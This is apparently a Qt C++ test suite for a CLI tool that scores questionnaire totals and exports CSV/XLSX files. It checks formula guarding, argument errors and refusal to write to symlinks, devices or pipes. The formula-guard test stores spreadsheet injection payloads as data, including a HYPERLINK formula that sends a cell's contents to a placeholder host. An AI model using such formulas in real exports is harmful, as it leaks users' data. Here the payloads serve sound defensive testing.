// meravel-cli score and export, run in-process on a test program folder.
#include "HostPath.h"
#include "CliRun.h"
#include "TestFolder.h"
#include "backup/Backup.h"
#include "data/PrivateFile.h"
#include "scoring/Scoring.h"
#include "scoring/XlsxExport.h"

#include <QDir>
#include <QtTest>

#ifndef Q_OS_WIN
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>
#endif

namespace {
CliRun cli(const QStringList& args) { return CliRun::run(args); }
} // namespace

class TestCliScoring : public QObject {
    Q_OBJECT
private slots:
    void init();
    void cleanup();
    void score_data();
    void score();
    void scoreStoredAnswers();
    void exportToFileAndStdout();
    void exportRefusesBadArguments();
    void exportGuardsFormulas();
    void writersRefuseOddDestinations_data();
    void writersRefuseOddDestinations();

private:
    TestFolder* m_folder = nullptr;
};

void TestCliScoring::init()
{
    m_folder = new TestFolder;
    QVERIFY(m_folder->isValid());
    m_folder->addSubject("1");
    m_folder->addSubject("2");
    m_folder->addSubject("3");
    QVERIFY(m_folder->exec(
        "UPDATE \"IDE\" SET \"V\"='30',\"J\"='25',\"H\"='20',\"A\"='15',\"M\"='10',\"GH\"='5' WHERE \"Code\"='1'"));
    QVERIFY(
        m_folder->exec("UPDATE \"IDE\" SET \"V\"='30',\"J\"='25',\"H\"='20',\"A\"='15',\"M\"='10' WHERE \"Code\"='3'"));
}

void TestCliScoring::cleanup() { delete m_folder; }

void TestCliScoring::score_data()
{
    const QString descending =
        "{\"ranks\":[\"6\",\"5\",\"4\",\"3\",\"2\",\"1\"],\"weights\":[\"4\",\"3\",\"2\",\"1\",\"2\",\"3\"],"
        "\"adjusted\":[\"10\",\"8\",\"6\",\"4\",\"4\",\"4\"],\"code\":[\""
        + Scoring::typeLetter(0) + "\",\"" + Scoring::typeLetter(1) + "\",\"" + Scoring::typeLetter(2)
        + "\"],\"streams\":[\"9\",\"6\",\"4.4\",\"6.13\",\"7.67\",\"6.67\"]";
    const QString descendingIndices = ",\"pair\":[\"v\",\"j\"],\"consistency\":\"high\",\"differentiation\":25";
    const QString allEqual =
        "{\"ranks\":[\"1\",\"1\",\"1\",\"1\",\"1\",\"1\"],\"weights\":[\"3\",\"2\",\"1\",\"2\",\"3\",\"4\"],"
        "\"adjusted\":[\"4\",\"3\",\"2\",\"3\",\"4\",\"5\"],\"code\":[\""
        + Scoring::typeLetter(5) + "\",\"" + Scoring::typeLetter(4) + "\",\"" + Scoring::typeLetter(3) + '-'
        + Scoring::typeLetter(2)
        + "\"],\"streams\":[\"3.5\",\"3\",\"3.4\",\"4.13\",\"4.17\",\"4.\"],"
          "\"pair\":[\"g\",\"m\"],\"consistency\":\"high\",\"differentiation\":0}\n";
    const QString notFound = Scoring::notFoundMessage() + '\n';
    const QString notAnswered = Scoring::notAnsweredMessage() + '\n';

    QTest::addColumn<QStringList>("args");
    QTest::addColumn<int>("exit");
    QTest::addColumn<QString>("out");
    QTest::addColumn<QString>("err");
    QTest::newRow("totals") << QStringList{"score", "30", "25", "20", "15", "10", "5"} << 0
                            << descending + descendingIndices + "}\n"
                            << "";
    QTest::newRow("v and a apart") << QStringList{"score", "40", "10", "10", "35", "10", "10"} << 0 << "<indices only>"
                                   << "";
    QTest::newRow("all equal") << QStringList{"score", "7", "7", "7", "7", "7", "7"} << 0 << allEqual << "";
    // A stored subject whose answer rows are empty (totals written directly): every flag
    // that empty answers raise, beside the flat-profile test its spread passes.
    QTest::newRow("stored") << QStringList{"score", "--code", "1"} << 0
                            << descending + descendingIndices
            + ",\"answered\":{\"part1\":0,\"part2\":0,\"part3\":0,\"ratings\":0},"
              "\"flags\":[\"no_ratings\",\"few_ticks\"]}\n"
                            << "";
    QTest::newRow("not registered") << QStringList{"score", "--code", "9"} << 1 << "" << notFound;
    QTest::newRow("quote in code") << QStringList{"score", "--code", "1'"} << 1 << "" << notFound;
    QTest::newRow("never answered") << QStringList{"score", "--code", "2"} << 1 << "" << notAnswered;
    QTest::newRow("one total missing") << QStringList{"score", "--code", "3"} << 1 << "" << notAnswered;
    QTest::newRow("text total") << QStringList{"score", "30", "x", "20", "15", "10", "5"} << 1 << "" << notAnswered;
    QTest::newRow("empty total") << QStringList{"score", "30", "", "20", "15", "10", "5"} << 1 << "" << notAnswered;
}

void TestCliScoring::score()
{
    QFETCH(QStringList, args);
    QFETCH(QString, out);
    const CliRun r = cli(args);
    QTEST(r.exit, "exit");
    if (out == "<indices only>")
        QVERIFY2(r.out.endsWith(",\"pair\":[\"v\",\"a\"],\"consistency\":\"low\",\"differentiation\":30}\n"),
                 qPrintable(r.out));
    else
        QCOMPARE(r.out, out);
    QTEST(r.err, "err");
}

void TestCliScoring::scoreStoredAnswers()
{
    // Subject 4 answered on screen: 20 ticks in part 1, 5 in part 2, none in part 3, and the
    // ratings all 4 where given.
    m_folder->addSubject("4");
    QStringList ticks;
    for (const char* type : {"v", "J", "H", "a"})
        for (int k = 1; k <= 5; ++k)
            ticks << QStringLiteral("\"%1%2\"='1'").arg(type).arg(k);
    QVERIFY(m_folder->exec("UPDATE \"S1\" SET " + ticks.join(',') + " WHERE \"Code\"='4'"));
    QVERIFY(
        m_folder->exec("UPDATE \"S2\" SET \"M1\"='1',\"M2\"='1',\"M3\"='1',\"G1\"='1',\"G2\"='0',\"G3\"='1',\"G4\"='1' "
                       "WHERE \"Code\"='4'"));
    QVERIFY(m_folder->exec("UPDATE \"S4\" SET \"V1\"='4',\"J2\"='4',\"M1\"='4' WHERE \"Code\"='4'"));
    QVERIFY(m_folder->exec(
        "UPDATE \"IDE\" SET \"V\"='13',\"J\"='9',\"H\"='5',\"A\"='5',\"M\"='7',\"GH\"='3' WHERE \"Code\"='4'"));
    const CliRun r = cli({"score", "--code", "4"});
    QCOMPARE(r.exit, 0);
    QVERIFY2(r.out.endsWith(",\"pair\":[\"v\",\"j\"],\"consistency\":\"high\",\"differentiation\":10,"
                            "\"answered\":{\"part1\":20,\"part2\":6,\"part3\":0,\"ratings\":3},"
                            "\"flags\":[\"equal_ratings\"]}\n"),
             qPrintable(r.out));
}

void TestCliScoring::exportToFileAndStdout()
{
    const QString path = m_folder->file("out.csv");
    // An earlier export that everyone could read is replaced by one only its owner can.
    QFile earlier(path);
    QVERIFY(earlier.open(QIODevice::WriteOnly));
    earlier.close();
    QVERIFY(QFile::setPermissions(path, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther));
    const CliRun toFile = cli({"export", "--out", path});
    QCOMPARE(toFile.exit, 0);
    QCOMPARE(toFile.out, QString());
    QVERIFY(underWine() || PrivateFile::restrictedToOwner(path));
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray data = f.readAll();
    QVERIFY(data.startsWith("\xEF\xBB\xBF" "Code,FName,"));
    const QList<QByteArray> lines = data.split('\n');
    QCOMPARE(lines.size(), 5);
    for (int i = 0; i < 4; ++i)
        QVERIFY(lines[i].endsWith('\r'));
    QVERIFY(lines[1].startsWith("1,F,L,"));
    QVERIFY(lines[1].endsWith(",9,6,4.4,6.13,7.67,6.67,high,25\r"));
    QVERIFY(lines[2].startsWith("2,F,L,"));
    QVERIFY(lines[3].endsWith(",30,25,20,15,10," + QByteArray(29, ',') + '\r'));

    const CliRun toOut = cli({"export"});
    QCOMPARE(toOut.exit, 0);
    // The in-memory stream carries the same text (a byte-order mark, if kept, aside).
    QString text = toOut.out;
    if (text.startsWith(QChar(0xFEFF)))
        text.remove(0, 1);
    QCOMPARE(text, QString::fromUtf8(data.mid(3)));
}

void TestCliScoring::exportRefusesBadArguments()
{
    QCOMPARE(cli({"export", "extra"}).exit, 2);
    QCOMPARE(cli({"score", "1", "2", "3"}).exit, 2);
    QCOMPARE(cli({"score", "--code", "1", "2"}).exit, 2);
    // An unwritable target fails without a partial file.
    const CliRun r = cli({"export", "--out", m_folder->file("missing/dir/out.csv")});
    QCOMPARE(r.exit, 1);
    QVERIFY(!r.err.isEmpty());
}

void TestCliScoring::exportGuardsFormulas()
{
    // Text a spreadsheet would evaluate gets a leading apostrophe; numbers never do.
    QVERIFY(m_folder->exec("UPDATE \"IDE\" SET \"FName\"='=HYPERLINK(\"http://x.invalid/?\"&B2,\"Click\")', "
                           "\"Tahsil\"='=1+1', \"Group\"='+5', \"LName\"='-2', \"Jens\"='@SUM(A1)' "
                           "WHERE \"Code\"='1'"));
    QVERIFY(m_folder->exec("UPDATE \"IDE\" SET \"FName\"='\ttab', \"LName\"='\rcr', "
                           "\"Tahsil\"='a=1', \"Group\"=' =1', \"V\"='-3' WHERE \"Code\"='2'"));
    m_folder->addSubject("=3", "Sara", "L");
    const CliRun r = cli({"export"});
    QCOMPARE(r.exit, 0);
    const QStringList lines = r.out.split("\r\n");
    QVERIFY2(lines.size() >= 5, qPrintable(r.out));
    QVERIFY2(lines[1].startsWith("1,\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&B2,\"\"Click\"\")\",'-2,'@SUM(A1),"),
             qPrintable(lines[1]));
    QVERIFY2(lines[1].contains(",'=1+1,'+5,"), qPrintable(lines[1]));
    // A tab or a carriage return first: guarded, and a CR inside is quoted as before.
    QVERIFY2(lines[2].startsWith("2,'\ttab,\"'\rcr\","), qPrintable(lines[2]));
    // Not first, or after a blank: left alone. A negative total stays a number.
    QVERIFY2(lines[2].contains(",a=1, =1,"), qPrintable(lines[2]));
    QVERIFY2(lines[2].contains(",-3,"), qPrintable(lines[2]));
    QVERIFY2(lines[4].startsWith("'=3,Sara,L,"), qPrintable(lines[4]));
}

void TestCliScoring::writersRefuseOddDestinations_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QStringList>("command");
    for (const char* kind : {"link", "device", "fifo", "folder"}) {
        // A pipe would keep the CSV export waiting for a reader before the refusal existed.
        if (QByteArray(kind) != "fifo")
            QTest::addRow("csv to a %s", kind) << kind << QStringList{"export", "--out"};
        QTest::addRow("xlsx to a %s", kind) << kind << QStringList{"export", "--format", "xlsx", "--out"};
        QTest::addRow("backup to a %s", kind) << kind << QStringList{"backup", "--force"};
    }
}

void TestCliScoring::writersRefuseOddDestinations()
{
#ifdef Q_OS_WIN
    QSKIP("links, devices and pipes are made with POSIX calls here");
#else
    QFETCH(QString, kind);
    QFETCH(QStringList, command);
    QTemporaryDir dir;
    const QString target = dir.filePath("target.txt"), destination = dir.filePath("out");
    QFile t(target);
    QVERIFY(t.open(QIODevice::WriteOnly));
    t.write("kept");
    t.close();
    const QByteArray path = QFile::encodeName(destination);
    if (kind == "link") {
        QVERIFY(::symlink(QFile::encodeName(target).constData(), path.constData()) == 0);
    } else if (kind == "device") {
        // A null device of one's own (as root): replacing the system's would break every process.
        if (::mknod(path.constData(), S_IFCHR | 0666, makedev(1, 3)) != 0)
            QSKIP("making a device needs root");
    } else if (kind == "fifo") {
        QVERIFY(::mkfifo(path.constData(), 0600) == 0);
    } else {
        QVERIFY(QDir().mkdir(destination));
    }
    struct stat before;
    QVERIFY(::lstat(path.constData(), &before) == 0);

    const CliRun r = cli(command << destination);
    QCOMPARE(r.exit, 1);
    QVERIFY2(r.err.contains(PrivateFile::notARegularFileMessage(destination)), qPrintable(r.err));
    struct stat after;
    QVERIFY(::lstat(path.constData(), &after) == 0);
    QCOMPARE(after.st_mode, before.st_mode);
    QCOMPARE(after.st_ino, before.st_ino);
    QCOMPARE(after.st_rdev, before.st_rdev);
    QFile kept(target);
    QVERIFY(kept.open(QIODevice::ReadOnly));
    QCOMPARE(kept.readAll(), QByteArray("kept"));
    // No temporary file is left beside it.
    QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot),
             QStringList({"out", "target.txt"}));
#endif
}

QTEST_MAIN(TestCliScoring)
#include "test_cli_scoring.moc"
